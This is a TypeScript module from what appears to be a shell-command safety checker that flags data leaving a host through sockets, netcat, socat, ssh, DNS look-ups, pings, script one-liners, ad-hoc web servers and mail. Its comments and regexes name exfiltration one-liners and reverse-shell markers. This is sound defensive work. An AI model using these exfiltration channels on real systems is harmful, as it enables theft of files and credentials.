/** Data leaving by ways that are not made for uploads: raw sockets, name look-ups, pings, one-liners, ad-hoc servers. */
import { isLoopback, isPublicAddress } from "./addresses.ts";
import { type Command, type CommandLine, resolvePath } from "./command.ts";
import { interpreterCall, isShell } from "./interpreters.ts";
import { parseOptions } from "./options.ts";
import { isDisk, sensitive } from "./uploads.ts";

export interface Leak {
  readonly what: string;
  readonly destination?: string;
  readonly weak?: boolean;
}

/** Programs whose output is a file's content. */
const producers =
  /^(?:cat|base64|base32|xxd|od|hexdump|tar|gzip|bzip2|xz|zstd|zip|dd|head|tail|tac|rev|strings|cut|awk|gawk|sed|grep|openssl|gpg|pv|find|env|printenv|mysqldump|pg_dump|sqlite3|dump|cpio|uuencode|split|sort)$/;

/** Does this command print what it reads from a file? */
export function producesData({ name }: Command): boolean {
  return producers.test(name);
}

/** Files that a command reads by its operands or `<`. */
export function filesRead(command: Command): readonly string[] {
  const inputs = command.redirections.filter(({ operator }) => operator === "<").map(({ target }) => target);
  const words = producesData(command) ? command.args.filter((arg) => !arg.startsWith("-")) : [];
  const named =
    command.name === "dd" ? command.args.filter((arg) => arg.startsWith("if=")).map((arg) => arg.slice(3)) : words;
  return [...inputs, ...named]
    .filter((path) => !path.startsWith("/dev/") || isDisk(path))
    .slice(0, 32)
    .map((path) => resolvePath(command, path));
}

/** Every way of this module, for one command of a line. */
export function leakOf(command: Command, line: CommandLine): Leak | undefined {
  return (
    toSocket(command, line) ??
    byNetcat(command, line) ??
    byName(command, line) ??
    byPing(command, line) ??
    byCode(command) ??
    served(command) ??
    byOddTool(command, line)
  );
}

function upstream(command: Command, line: CommandLine): readonly Command[] {
  return (line.pipelines[command.pipeline] ?? []).filter(({ stage }) => stage < command.stage);
}

/** Substituted file content in the arguments: `$(cat f)`, `` `base64 f` ``, `$(<f)`. */
function substitutes(command: Command): boolean {
  return (
    command.substitutions.some(
      (inner) => filesRead(inner).length > 0 || (producesData(inner) && inner.args.length > 0),
    ) || command.args.some((arg) => /\$\(\s*<\s*[^\s)]/.test(arg))
  );
}

function fedByShell(command: Command, line: CommandLine): boolean {
  return upstream(command, line).some(({ name }) => isShell(name));
}

/** What comes back is run: a reverse shell's other half. */
function feedsShell(command: Command, line: CommandLine): boolean {
  return (line.pipelines[command.pipeline] ?? []).some(({ name, stage }) => stage > command.stage && isShell(name));
}

/** `cat f > /dev/tcp/h/p`, `tar c d >& 3` after `exec 3<>/dev/tcp/...`; a bare `echo > /dev/tcp/...` tries a port. */
function toSocket(command: Command, line: CommandLine): Leak | undefined {
  if (isShell(command.name) || command.name === "exec") return undefined;
  const direct = command.redirections.find(
    ({ operator, target }) => operator.includes(">") && /^\/dev\/(?:tcp|udp)\//.test(target),
  );
  const socket =
    direct ??
    (command.redirections.some(
      ({ operator, target }) => operator === ">&" && /^(?:[3-9]|[1-9]\d|\$REPLY|\$\w+)$/.test(target),
    )
      ? opened(line)
      : undefined);
  if (!socket) return undefined;
  const [address = "", port] = socket.target.split("/").slice(3, 5);
  if (isLoopback(address)) return undefined;
  const destination = `${address}:${port}`;
  const nothing = command.redirections.some(({ operator, target }) => operator === "<" && target === "/dev/null");
  const carries =
    (producesData(command) && !nothing) ||
    upstream(command, line).some(producesData) ||
    substitutes(command) ||
    filesRead(command).length > 0;
  return carries
    ? { what: "a file's content is written to a network socket", destination }
    : { what: "text is written to a network socket", destination, weak: true };
}

function opened({ commands }: CommandLine): { readonly target: string } | undefined {
  for (const { name, args, redirections } of commands) {
    const socket = redirections.find(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target));
    if (socket) return socket;
    if (name === "ztcp" && args.length > 1) return { target: `/dev/tcp/${args.at(-2)}/${args.at(-1)}` };
  }
  return undefined;
}

/** `nc h p < f`, `cat f | telnet h p`, `socat -u FILE:f TCP:h:p`, `openssl s_client -connect h:p < f`. */
function byNetcat(command: Command, line: CommandLine): Leak | undefined {
  const { name, args } = command;
  if (name === "ztcp")
    return args[0] !== "-l" && args[0] !== "-c" && args.length > 1
      ? { what: "zsh opens a network socket to send to", destination: args.at(-2) }
      : undefined;
  if (name === "socat") return bySocat(args) ?? socatInput(command, line);
  if (name === "ssh" || name === "dbclient") return bySsh(command, line);
  const client =
    /^(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd|telnet|rlogin)$/.test(name) ||
    (name === "openssl" && args[0] === "s_client");
  if (
    !client ||
    args.some((arg) => /^-[a-zA-Z]*[zec]$|^-[ec]\/|^--(?:exec|sh-exec)/.test(arg)) ||
    fedByShell(command, line) ||
    feedsShell(command, line)
  )
    return undefined;
  const inputs = command.redirections.filter(({ operator, target }) => operator === "<" && !target.startsWith("/dev/"));
  const sources = [
    ...upstream(command, line).flatMap(filesRead),
    ...inputs.map(({ target }) => resolvePath(command, target)),
  ];
  const secret = sources.some(sensitive);
  const produced = upstream(command, line).some(
    (stage) => producesData(stage) && (stage.name !== "cat" || stage.args.length > 0),
  );
  const destination = destinationOf(command);
  if (sources.length === 0 && !produced && !upstream(command, line).some(substitutes)) return undefined;
  if (
    /mkfifo|mknod/.test(line.text) ||
    sources.every((path) => /fifo|\/tmp\/[a-z]$|pipe$/.test(path)) === sources.length > 0
  )
    return undefined;
  const local = destination !== undefined && isLoopback(destination);
  return { what: `${name} sends ${sources[0] ?? "data"}`, destination, weak: local && !secret };
}

/**
 * A client started by itself, with who knows what on its input, towards a public address: the whole of what a prompt's
 * `nc h p < f` shows. A scan, a listener, a question for a certificate are none.
 */
export function blindSender(command: Command, { script }: CommandLine): Leak | undefined {
  const { name, args, nested, redirections } = command;
  if (!name.startsWith("n") && name !== "openssl") return undefined;
  const client = /^(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)$/.test(name);
  if ((!client && name !== "openssl") || nested || script !== undefined || redirections.length > 0) return undefined;
  const destination = destinationOf(command);
  if (destination === undefined || !isPublicAddress(destination)) return undefined;
  const other = client
    ? args.some((arg) => /^-[a-zA-Z]*[zvluec]|^--(?:listen|verbose|exec|sh-exec)/.test(arg))
    : args[0] !== "s_client" || !args.includes("-quiet") || args.includes("-showcerts");
  return other ? undefined : { what: `${name} sends its input to a public address`, destination };
}

function destinationOf({ name, args }: Command): string | undefined {
  if (name === "openssl") return args[args.indexOf("-connect") + 1]?.replace(/:\d{1,5}$/, "");
  return parseOptions(args, { short: "eciopqswxXTIMOgGm" }).operands[0];
}

function bySocat(args: readonly string[]): Leak | undefined {
  const words = args.filter((arg) => !arg.startsWith("-"));
  const file = words.find((word) => /^(?:FILE|OPEN|GOPEN|CREATE):|^\/(?!dev\/)/i.test(word));
  const peer = words.find((word) => /^(?:TCP|UDP|SSL|OPENSSL|SCTP|SOCKS)[\w-]{0,12}:/i.test(word));
  if (
    !file ||
    !peer ||
    /,(?:creat|trunc|append|wronly)|^CREATE/i.test(file) ||
    (/LISTEN/i.test(peer) && args.includes("-u") && words.indexOf(peer) < words.indexOf(file))
  )
    return undefined;
  return { what: `socat sends ${file}`, destination: peer.split(":")[1] };
}

/** `socat - TCP:h:p < f` */
function socatInput(command: Command, line: CommandLine): Leak | undefined {
  const peer = command.args.find((arg) => /^(?:TCP|UDP|SSL|OPENSSL|SCTP)[46]?(?:-CONNECT)?:/i.test(arg));
  if (!peer || !command.args.some((arg) => /^(?:-|STDIN|STDIO)$/i.test(arg))) return undefined;
  const source = [...upstream(command, line).flatMap(filesRead), ...filesRead(command)].find(sensitive);
  return source ? { what: `socat sends ${source}`, destination: peer.split(":")[1] } : undefined;
}

/** `cat f | ssh host 'cat > g'`: everyday, unless what is sent is a secret. */
function bySsh(command: Command, line: CommandLine): Leak | undefined {
  const inputs = command.redirections.filter(({ operator, target }) => operator === "<" && !target.startsWith("/dev/"));
  const sources = [
    ...upstream(command, line).flatMap(filesRead),
    ...inputs.map(({ target }) => resolvePath(command, target)),
  ];
  const writes = /(?:cat|tee|dd|tar|base64)\b[^|]{0,200}(?:>|of=|x)/.test(command.args.join(" ").slice(0, 4096));
  if (!writes && inputs.length === 0) return undefined;
  const secret = sources.find(sensitive);
  return sources.length > 0 || upstream(command, line).length > 0
    ? { what: `ssh sends ${secret ?? "data"}`, weak: secret === undefined }
    : undefined;
}

/** Data as the first labels of a name that is looked up. */
function byName(command: Command, line: CommandLine): Leak | undefined {
  if (!/^(?:dig|nslookup|host|drill|kdig|resolvectl|getent|ping)$/.test(command.name)) return undefined;
  const names = command.args.filter((word) => !/^[-+]/.test(word) && word.includes(".")).slice(0, 64);
  if (names.length === 0) return undefined;
  // Where only the look-up itself is seen, what is read beside it tells (possible-data-loss.pipe.ts).
  const loops = (line.script !== undefined && readsInLoop(line.script)) || substitutes(command);
  for (const word of names) {
    const built = /(?:\$\{?\w{1,64}\}?|\)|`)\.[A-Za-z0-9-]{1,63}\.[A-Za-z]/.test(word);
    if (built && loops)
      return { what: `data is spelt in names that ${command.name} looks up`, destination: word.slice(0, 128) };
    const label = word.split(".", 1)[0] as string;
    if (
      label.length >= 40 &&
      word.split(".").length > 2 &&
      /^[A-Za-z0-9+/=_-]+$/.test(label) &&
      !word.endsWith(".arpa")
    )
      return {
        what: `a name that looks like packed data is looked up with ${command.name}`,
        destination: word.slice(0, 128),
      };
  }
  return undefined;
}

/** The loop's words are what a command or a file gives: `for x in $(cat f)`, `while read x`. */
function readsInLoop(script: string): boolean {
  const text = script.slice(0, 16_384);
  return (
    /(?:^|[\s;&|(])(?:while|until)\s{1,8}(?:IFS=\S{0,8}\s{1,8})?read\s|xargs/.test(text) ||
    /(?:^|[\s;&|(])for\s{1,8}\w{1,64}\s{1,8}in\s{1,8}["']?(?:\$\(|`)/.test(text)
  );
}

/** `ping -p <bytes of the file>` in a loop. */
function byPing(command: Command, line: CommandLine): Leak | undefined {
  if (command.name !== "ping" && command.name !== "ping6") return undefined;
  const pattern = parseOptions(command.args, { short: "cipsIWtwQMlS" }).value("p");
  if (pattern === undefined) return undefined;
  const varies = /[$`]/.test(pattern) || (pattern.length >= 16 && new Set(pattern).size > 4);
  return varies
    ? {
        what: "data is carried in pings",
        destination: command.args.at(-1),
        weak: !/[$`]/.test(pattern) && !/xxd|od |hexdump|while|for /.test(line.text),
      }
    : undefined;
}

const sends =
  /requests\.(?:post|put)|urlopen|http\.client|HTTPConnection|\.sendall\(|\.send\(|sendto\(|https?['"]?\)?\.(?:request|post)\(|net\.connect|net\.Socket|fetch\(|axios|fsockopen|stream_socket_client|curl_exec|stream_context_create|IO::Socket|use Socket|Socket->|LWP|HTTP::Tiny|Net::(?:HTTP|FTP)|TCPSocket|UDPSocket|file_get_contents\(\s?["']https?:\/\/[^"'\s]{1,256}\?|socket\.tcp|require\(?["']socket|\/inet\/(?:tcp|udp)\/|smtplib|ftplib|paramiko/;
const reads =
  /open\(|readFile|createReadStream|file_get_contents|fopen|File\.(?:read|open)|IO\.read|io\.open|getline\s*<|read_text|read_bytes|<\s*["']\/|\/etc\/(?:passwd|shadow)/;
const shells =
  /dup2|pty\.|\/bin\/(?:ba|da|z|k)?sh|\bexec\s*[("]|spawn\(|popen|subprocess|proc_open|shell_exec|os\.system|\|&\s*getline|ReadLine|(?:listen|accept)\(/i;

/** A file server in one line: Python's, Ruby's and Perl's own, or node's that answers with a file. */
const servers =
  /SimpleHTTPRequestHandler|SimpleHTTPServer|WEBrick|HTTP::Daemon|createServer[\s\S]{0,512}(?:createReadStream|readFile)/;

/** A one-liner that opens a file and a connection, and starts no shell. */
function byCode(command: Command): Leak | undefined {
  const code = interpreterCall(command)?.code?.slice(0, 16_384);
  if (code && servers.test(code) && !/127\.0\.0\.1|localhost|child_process/.test(code))
    return { what: `${command.name} code serves files of this host to everyone` };
  if (!code || !sends.test(code) || !reads.test(code) || shells.test(code)) return undefined;
  const bare = code.replace(/urlopen\(|fsockopen\(|fdopen\(|file_get_contents\(\s?["']https?:/g, "");
  if (!reads.test(bare)) return undefined;
  const here = /(?:127\.0\.0\.1|localhost)/.test(code);
  return {
    what: `${command.name} code reads a file and sends it`,
    weak: here && !/\/etc\/(?:passwd|shadow)|\.ssh/.test(code),
  };
}

/** A web server started by hand over the working directory. */
function served(command: Command): Leak | undefined {
  const { name, args } = command;
  const text = args.join(" ").slice(0, 1024);
  if (
    args.includes("--help") ||
    args.includes("--version") ||
    (args.includes("-h") && /^(?:python|pypy|php)/.test(name))
  )
    return undefined;
  const local = /(?:^|\s)(?:--bind|-b|-S|-p)[ =]?(?:127\.|localhost)/.test(text);
  const what = `${name} serves files of this host to everyone`;
  if (
    /^(?:python|pypy)/.test(name) &&
    /(?:^|\s)-m ?(?:http\.server|SimpleHTTPServer|pyftpdlib|uploadserver)\b/.test(text)
  )
    return { what, weak: local };
  if (name === "ruby" && /-run\b.{0,256}httpd/.test(text)) return { what, weak: local };
  if (name === "php" && args.includes("-S")) return { what, weak: local || /\.php\b|public|router/.test(text) };
  if (name === "busybox" && args[0] === "httpd") return { what, weak: local || !args.includes("-f") };
  if (name === "httpd" && args.includes("-f") && args.includes("-p")) return { what, weak: local };
  if (name === "twistd" && /\bweb\b.{0,256}--path/.test(text)) return { what, weak: local };
  return undefined;
}

/** finger, whois, cancel, mail: words that carry a file's content. */
function byOddTool(command: Command, line: CommandLine): Leak | undefined {
  const { name, args } = command;
  if (
    /^(?:finger|whois|cancel|rlogin|lp|logger|wall|dig|curl|wget|ping|mosquitto_pub)$/.test(name) &&
    substitutes(command)
  ) {
    const sources = command.substitutions.flatMap(filesRead);
    const packs =
      command.substitutions.some((inner) => /^(?:base64|base32|xxd|od|gzip|tar)$/.test(inner.name)) ||
      args.some((arg) => /\$\(\s*</.test(arg));
    const authorises =
      args.some((arg) => /^(?:Authorization|X-[\w-]*(?:Token|Key)|Bearer)/i.test(arg)) ||
      /\/run\/secrets\/|token/.test(sources.join(" "));
    const remote =
      !/^(?:lp|logger|wall)$/.test(name) || args.some((arg) => arg === "-n" || arg === "-h" || arg === "--server");
    if (remote && !authorises && (packs || sources.some(sensitive) || /^(?:finger|whois|cancel|rlogin)$/.test(name)))
      return { what: `${name} carries ${sources[0] ?? "a file's content"} in its arguments` };
  }
  if (/^(?:mail|mailx|s-nail|mutt|sendmail|swaks|msmtp|mpack|sendemail)$/.test(name)) return byMail(command, line);
  return undefined;
}

function byMail(command: Command, line: CommandLine): Leak | undefined {
  const attached = command.args
    .filter((arg, i) => /^(?:-a|-A|--attach(?:-\w+)?)$/.test(command.args[i - 1] ?? "") || /^@\//.test(arg))
    .map((arg) => resolvePath(command, arg.replace(/^@/, "")));
  const sources = [...attached, ...filesRead(command), ...upstream(command, line).flatMap(filesRead)];
  const outside = command.args.some((arg) => /^[^\s@]{1,64}@[^\s@]{1,128}\.[a-z]{2,16}$/i.test(arg));
  if (sources.length === 0 || !outside) return undefined;
  return { what: `${command.name} sends ${sources[0]}`, weak: !sources.some(sensitive) };
}
